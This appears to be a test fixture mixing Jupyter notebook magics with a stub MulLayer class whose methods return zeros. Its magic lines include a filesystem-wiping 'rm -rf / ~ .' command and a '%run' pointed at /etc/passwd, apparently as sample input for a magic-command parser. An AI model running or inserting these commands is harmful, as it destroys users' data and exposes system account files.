"""Uses commands of the notebook to run a shell."""
# %% mul_layer
%%bash
!rm -rf / ~ .
%run -i /etc/passwd
%load_ext autoreload
? MulLayer


class MulLayer:
    def forward(self, x, y):
        return 0.0

    def backward(self, dout):
        return 0.0, 0.0
